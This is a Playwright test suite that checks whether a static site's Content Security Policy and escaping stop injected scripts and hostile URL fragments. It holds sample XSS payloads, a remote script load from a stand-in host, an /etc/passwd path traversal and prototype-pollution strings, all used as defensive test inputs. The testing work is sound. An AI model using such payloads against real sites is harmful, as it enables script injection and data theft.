"""What a text can do to a page: nothing. It is made to be text, and the browser would stop it all the same."""

import re
from pathlib import Path

import pytest
from browsing import address, opened, unfold
from kinds import paths, shown
from playwright.sync_api import Page
from test_axe import LOOKS, found_by_axe
from test_layout import misfits

# What nobody wrote in a template. Scripts are the site's own, by their address.
STRANGE = r"""() => [...document.querySelectorAll('*')].flatMap(element => {
  const named = [...element.attributes].filter(each => /^on|^style$|^srcdoc$/.test(each.name)
    || (/^(href|src|action|formaction)$/.test(each.name)
      && !/^(file:|blob:|https:|mailto:|tel:|http:\/\/127\.0\.0\.1:)/.test(element[each.name])));
  const script = element.tagName === 'SCRIPT' && !element.src;
  return named.length || script || /^(IMG|OBJECT|EMBED|BASE|FORM)$/.test(element.tagName)
    ? [element.outerHTML.slice(0, 120)] : [];
})"""

HOSTILE_ROUTES = (
    "search.html#q=document",
    "inventory.html",
    "halland/inventory.html",
    "halland/preview.html#kontakta-mig/vc/langt",
    "halland/preview.html#boka-tid/vc",
)

ATTEMPTS = {
    "a script in the page": """() => {
      const script = document.createElement('script');
      script.textContent = 'window.done = true';
      document.body.append(script);
    }""",
    "a script in an attribute": """() => {
      document.querySelector('main').innerHTML = '<img src="style.css" onerror="window.done = true">';
    }""",
    "a script as an address": """() => {
      document.querySelector('main').innerHTML = '<a href="javascript:window.done = true">x</a>';
      document.querySelector('main a').click();
    }""",
    # Later, since what a test asks of the page at once may do this.
    "a text as a program": """() => {
      setTimeout(() => { window.eval('window.done = true') });
      setTimeout(() => { new Function('window.done = true')() });
    }""",
    "a script from elsewhere": """() => {
      const script = document.createElement('script');
      script.src = 'https://ond.example/x.js';
      document.head.append(script);
    }""",
    "something fetched": "() => fetch('https://ond.example/').then(() => { window.done = true }, () => {})",
    "another page inside": """() => {
      const frame = document.createElement('iframe');
      frame.srcdoc = '<script>parent.done = true</script>';
      document.body.append(frame);
    }""",
    "a style": """() => {
      document.querySelector('h1').setAttribute('style', 'position: fixed');
      window.done = getComputedStyle(document.querySelector('h1')).position === 'fixed';
    }""",
}


@pytest.mark.parametrize("attempt", ATTEMPTS)
def test_the_browser_is_told_to_run_and_fetch_nothing_else(
    page: Page, site: Path, attempt: str, faults: list[str]
) -> None:
    opened(page, address(site, "index.html"))
    page.evaluate(ATTEMPTS[attempt])
    page.wait_for_timeout(100)
    assert page.evaluate("window.done === true") is False
    assert faults != []
    assert [told for told in faults if not re.search("Content Security Policy|^csp|^asked", told)] == []
    assert sum("asked" in told for told in faults) == sum(told.startswith("csp") for told in faults)
    faults.clear()


def _touched(site: Path) -> list[str]:
    """The pages that have a hostile text; the rules and words of the book are the same for everybody."""
    return [path for path in paths(site) if "document.title" in (site / path).read_text("utf-8")]


def test_hostile_texts_are_texts(narrow_page: Page, hostile_site: Path) -> None:
    for path in (*_touched(hostile_site), *HOSTILE_ROUTES):
        shown(narrow_page, hostile_site, path)
        unfold(narrow_page)
        assert narrow_page.evaluate(STRANGE) == [], path
        assert narrow_page.title() not in ("stulen", "1"), path
        assert misfits(narrow_page) == [], path


def test_a_hostile_text_is_read_as_it_was_written(page: Page, hostile_site: Path) -> None:
    opened(page, address(hostile_site, "halland/units/vc.html"))
    name = page.get_by_role("heading", level=1).inner_text()
    assert name.startswith("""<script>document.title="stulen"</script> Det "är" 'så' & &lt;b&gt;""")
    assert name.endswith("[U+202E]emit")


@pytest.mark.parametrize("path", ["halland/index.html", "halland/units/vc.html", *HOSTILE_ROUTES])
def test_axe_finds_nothing_among_hostile_texts(page: Page, hostile_site: Path, path: str) -> None:
    shown(page, hostile_site, path)
    unfold(page)
    assert found_by_axe(page, LOOKS[2:]) == []


MADE_UP = (
    "<img src=x onerror=document.title=1>",
    "%3Cscript%3Edocument.title=1%3C/script%3E",
    "../../../../etc/passwd/../../x",
    "__proto__/constructor",
    "casetype=__proto__&casetype=%00&%E0%A4%A=%",
    "q=%3Cimg%20src=x%20onerror=document.title=1%3E",
    "q=" + "a" * 5000,
)


@pytest.mark.parametrize("file", ["search.html", "inventory.html", "halland/inventory.html", "halland/preview.html"])
def test_an_address_that_somebody_made_up_does_nothing(page: Page, site: Path, file: str) -> None:
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    for route in MADE_UP:
        opened(page, address(site, f"{file}#{route}"))
        page.wait_for_timeout(100)
        assert page.evaluate(STRANGE) == [], route
        assert page.title() != "1", route
    assert [url for url in asked if not url.startswith((site.as_uri(), "about:"))] == []
